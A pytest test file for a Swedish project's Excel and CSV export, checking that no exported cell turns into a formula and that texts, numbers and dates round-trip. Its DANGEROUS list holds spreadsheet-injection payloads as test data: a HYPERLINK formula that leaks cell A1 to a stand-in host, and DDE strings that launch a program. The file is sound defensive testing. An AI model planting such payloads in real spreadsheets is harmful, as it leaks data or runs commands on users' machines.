"""Lists as Excel and CSV: no cell is ever a formula, and every text comes back."""

from __future__ import annotations

import csv
import io
import math
import warnings
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from samsyn.chain.choices import Result
from samsyn.formats.table_out import (
    ABOUT_SHEET, MAX_CELL, UNWRITABLE, TooManyRows, harmless, sheet_name, table_csv, table_workbook, undo_harmless,
)

DANGEROUS = [
    '=HYPERLINK("http://x.invalid/?"&A1,"klicka")', "+46701740605", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1",
    "=cmd|'/c calc'!A1", "_x000D_=1+1", "\n=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "{=1+1}", "'=1+1", "''=1",
    "http://x.invalid", "mailto:bo@granviken.example", "internal:Plan!A1", "<r><t>x</t></r>", "<r></si><si><t>=1</t></r>",
    "– streck först", "-5 % brott", " =1+1", "'", "''", "1. Mörk gångväg", "007", "1e5", "TRUE", "#REF!",
]
texts = st.one_of(st.sampled_from(DANGEROUS), st.text(max_size=60), st.text(alphabet="=+-@\t\r\n'x<r>/_0D;\"", max_size=12))


def cells_of(workbook: bytes, sheet: int = 0) -> list[list[openpyxl.cell.cell.Cell]]:
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(workbook)).worksheets[sheet].iter_rows()]


def as_excel_keeps_it(text: str) -> str:
    """The slow, obvious version: line breaks are \\n, what XML cannot hold is the mark, openpyxl drops x005F_."""
    for line_break in ("\r\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"):
        text = text.replace(line_break, "\n")
    return "".join(UNWRITABLE if ord(sign) < 32 and sign not in "\n\t" or sign in "\ufffe\uffff" else sign for sign in text)


@given(st.lists(texts, min_size=2, max_size=2))
@settings(max_examples=60, deadline=None)
def test_every_text_is_a_string_in_the_workbook_and_survives(pair: list[str]) -> None:
    cells = cells_of(table_workbook(pair[0], ["Orsak", pair[1]], [pair, pair[::-1]]))
    assert [cell.data_type for row in cells for cell in row if cell.value is not None] != []
    assert {cell.data_type for row in cells for cell in row} <= {"s", "n"}
    assert all(cell.hyperlink is None for row in cells for cell in row)
    assert [[cell.value or "" for cell in row] for row in cells[-2:]] == [
        [as_excel_keeps_it(text) for text in pair], [as_excel_keeps_it(text) for text in pair[::-1]]]


def test_the_check_for_formulas_sees_a_planted_one() -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    target = io.BytesIO()
    book.save(target)
    assert cells_of(target.getvalue())[0][0].data_type == "f"


@pytest.mark.parametrize("text", DANGEROUS)
def test_the_importer_s_reader_sees_the_same_text(text: str) -> None:
    from python_calamine import load_workbook

    book = table_workbook("", ["Åtgärd"], [[text], ["_x005F_x000D_ och _x0041_x0042_"]])
    rows = load_workbook(io.BytesIO(book)).get_sheet_by_index(0).to_python(skip_empty_area=False)
    assert [row[0] for row in rows] == ["Åtgärd", as_excel_keeps_it(text), "_x005F_x000D_ och _x0041_x0042_"]


@given(texts)
@settings(max_examples=300, deadline=None)
def test_a_text_made_harmless_begins_harmlessly_and_comes_back(text: str) -> None:
    assert not harmless(text).startswith(tuple("=+-@\t\r\n＝＋－＠"))
    assert undo_harmless(harmless(text)) == text


@pytest.mark.parametrize(("text", "written"), [
    ("=1+1", "'=1+1"), ("'=1+1", "''=1+1"), ("'s-Gravenhage", "''s-Gravenhage"), ("vanlig", "vanlig"), ("", ""), ("＝1", "'＝1")])
def test_the_apostrophe_stands_before_what_would_be_calculated(text: str, written: str) -> None:
    assert harmless(text) == written


def test_an_apostrophe_that_a_person_wrote_is_kept_on_the_way_in() -> None:
    assert undo_harmless("'n rolig text") == "'n rolig text"


@given(st.lists(texts, min_size=3, max_size=3))
@settings(max_examples=100, deadline=None)
def test_csv_gives_every_text_back(row: list[str]) -> None:
    raw = table_csv(["A", "B", "C"], [row])
    assert raw.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert read[0] == ["A", "B", "C"]
    assert [undo_harmless(cell) for cell in read[1]] == row


def test_csv_keeps_numbers_as_numbers_with_a_decimal_comma() -> None:
    row = [Decimal("-1250.50"), -3, 0.5, date(2027, 3, 31), datetime(2027, 3, 31, 10, 14), Result.BETTER, None, True, math.nan]
    lines = table_csv(["x"] * 9, [row]).decode("utf-8-sig").splitlines()
    assert lines[1] == "-1250,50;-3;0,5;2027-03-31;2027-03-31 10:14;Bättre;;Ja;"


def test_workbook_keeps_numbers_and_days_as_such() -> None:
    row = [Decimal("12.5"), -3, date(2027, 3, 31), datetime(2027, 3, 31, 10, 14), Result.BETTER, None, date(1850, 1, 1), 10 ** 18, math.nan]
    cells = cells_of(table_workbook("", ["x"] * 9, [row]))[1]
    assert [cell.value for cell in cells] == [
        12.5, -3, datetime(2027, 3, 31), datetime(2027, 3, 31, 10, 14), "Bättre", None, "1850-01-01", str(10 ** 18), None]


def test_what_excel_cannot_hold_is_told_on_a_sheet_of_its_own() -> None:
    book = table_workbook("Lista", ["Text"], [["a\x00b"], ["å" * (MAX_CELL + 5)], ["\U0001F600" * MAX_CELL], ["hel"]])
    assert [row[0].value[:3] for row in cells_of(book)[2:]] == [f"a{UNWRITABLE}b", "ååå", "\U0001F600" * 3, "hel"]
    told = [row[0].value for row in cells_of(book, 1)]
    assert [line.split(":")[0] for line in told] == ["Cell A3", "Cell A4", "Cell A5"]
    assert openpyxl.load_workbook(io.BytesIO(book)).sheetnames == ["Lista", ABOUT_SHEET]


def test_nothing_is_told_when_all_could_be_written() -> None:
    assert len(openpyxl.load_workbook(io.BytesIO(table_workbook("Lista", ["Text"], [["hel"]]))).sheetnames) == 1


@pytest.mark.parametrize(("title", "name"), [
    ("Trygg kväll i centrum", "Trygg kväll i centrum"), ("a/b:c*d?e[f]g\\h", "a b c d e f g h"), ("x" * 40, "x" * 31), ("\U0001F600" * 20, "\U0001F600" * 15),
    ("'plan'", "plan"), ("", "Plan"), ("History", "Plan"), ("\x00", UNWRITABLE), ("om filen", "Plan"), (" ' ", "Plan")])
def test_the_tab_has_a_name_that_excel_allows(title: str, name: str) -> None:
    assert sheet_name(title) == name
    assert cells_of(table_workbook(title, ["A"], [["b"]]))[-1][0].value == "b"


def test_the_page_prints_on_a4_across_with_the_header_on_every_sheet() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(table_workbook("Lista", ["Text"], [["b"]]))).active
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToHeight == 0
    assert sheet.print_title_rows == "$1:$2"


def test_too_many_rows_are_refused_and_not_lost(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("samsyn.formats.table_out.MAX_ROWS", 4)
    assert len(cells_of(table_workbook("Lista", ["A"], [["1"], ["2"]]))) == 4
    with pytest.raises(TooManyRows, match="rymmer"):
        table_workbook("Lista", ["A"], [["1"], ["2"], ["3"]])


def test_the_same_list_gives_the_same_bytes() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert table_workbook("Lista", ["A"], [["b"]]) == table_workbook("Lista", ["A"], [["b"]])
